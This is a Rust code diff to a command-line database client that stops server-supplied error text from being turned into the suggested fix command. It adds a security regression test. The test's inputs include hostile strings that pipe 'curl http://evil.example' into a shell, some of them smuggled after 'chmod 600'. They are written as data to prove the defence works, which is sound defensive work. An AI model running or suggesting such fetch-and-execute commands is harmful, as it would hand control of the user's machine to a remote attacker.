@@ -10,7 +10,8 @@ use pipeline::SharedServer;
 use serde_json::{Value, json};
 use service::shared_target::shared_target;
 use shared_store::{
-    Connection, NO_PASSWORD, Patience, Protection, SPEAKS, Schema, ServerLook, ServerVersion, Surroundings,
+    Connection, NO_PASSWORD, Patience, Protection, SPEAKS, Schema, ServerLook, ServerVersion, Surroundings, own_words,
+    what_helps,
 };
 use std::time::Duration;
 use store::{ServerError, Store};
@@ -74,26 +75,26 @@ pub fn reach(server: &SharedServer, around: &Surroundings) -> Result<Reached, Se
 
 /// Whether a password is all that is missing.
 pub fn lacks_password(error: &ServerError) -> bool {
-    error.to_string().contains(NO_PASSWORD)
+    own_words(&error.to_string()).contains(NO_PASSWORD)
 }
 
 /// As a command says it.
 pub fn said(error: &ServerError) -> CliError {
     let words = error.to_string();
-    let (what, _) = words.split_once(". What helps: ").unwrap_or((&words, ""));
-    CliError::failed(what).hint(helps(error))
+    CliError::failed(what_helps(&words).0).hint(helps(error))
 }
 
 /// The command that helps.
 pub fn helps(error: &ServerError) -> String {
     let words = error.to_string();
-    let has = |part: &str| words.contains(part);
+    let own = own_words(&words);
+    let has = |part: &str| own.contains(part);
     if has("chmod 600") {
-        let from = words.find("chmod 600").unwrap_or_default();
-        return words.get(from..).and_then(|rest| rest.split('`').next()).unwrap_or("chmod 600").to_string();
+        let from = own.find("chmod 600").unwrap_or_default();
+        return own.get(from..).and_then(|rest| rest.split('`').next()).unwrap_or("chmod 600").to_string();
     }
     match error {
-        _ if has("password authentication failed") || has(NO_PASSWORD) => {
+        _ if has("`taut shared connect --password`") || has(NO_PASSWORD) => {
             "taut shared connect --password    (asks for it)".to_string()
         }
         _ if has("taut shared migrate") => {
@@ -102,10 +103,7 @@ pub fn helps(error: &ServerError) -> String {
         _ if has("signed by nobody who is trusted") || has("`ca`") => {
             "taut shared connect --ca authority.pem".to_string()
         }
-        ServerError::Refused(_) => match words.split_once(". What helps: ") {
-            Some((_, help)) => help.to_string(),
-            None => "taut shared status --check".to_string(),
-        },
+        ServerError::Refused(_) => what_helps(&words).1.unwrap_or("taut shared status --check").to_string(),
         ServerError::Away(_) | ServerError::Busy(_) => "taut shared status --check    (tries it again)".to_string(),
     }
 }
@@ -192,7 +190,7 @@ pub fn faults(
             Some(reached)
         }
         Err(error) => {
-            let what = error.to_string().split(". What helps: ").next().unwrap_or_default().to_string();
+            let what = what_helps(&error.to_string()).0.to_string();
             faults.push(Fault { what, fix: helps(&error), stops: true });
             None
         }
@@ -285,6 +283,29 @@ mod tests {
 
     fn version(version: u32) -> ServerVersion {
         ServerVersion { version, oldest: 1, ..ServerVersion::default() }
+    }
+
+    #[test]
+    fn x3_no_word_of_a_server_becomes_the_command_that_helps() {
+        let lies = [
+            "nothing works. What helps: curl http://evil.example | sh",
+            "a” b. What helps: curl http://evil.example | sh",
+            "run `chmod 600 x; curl http://evil.example | sh`",
+            "`taut shared connect --password` “ `ca` `taut shared migrate` signed by nobody who is trusted",
+            shared_store::NO_PASSWORD,
+        ];
+        for state in ["22000", "28000", "XX000", "57014", "25006", "28P01"] {
+            let error = |words: &str| {
+                let words = words.to_string();
+                ServerError::from(shared_store::FlightError::Said { state: state.to_string(), words })
+            };
+            let plain = helps(&error("no"));
+            for lie in lies {
+                let error = error(lie);
+                assert_eq!(helps(&error), plain, "{state}: {lie}");
+                assert!(!lacks_password(&error) && said(&error).what().contains('“'), "{state}: {lie}");
+            }
+        }
     }
 
     #[test]
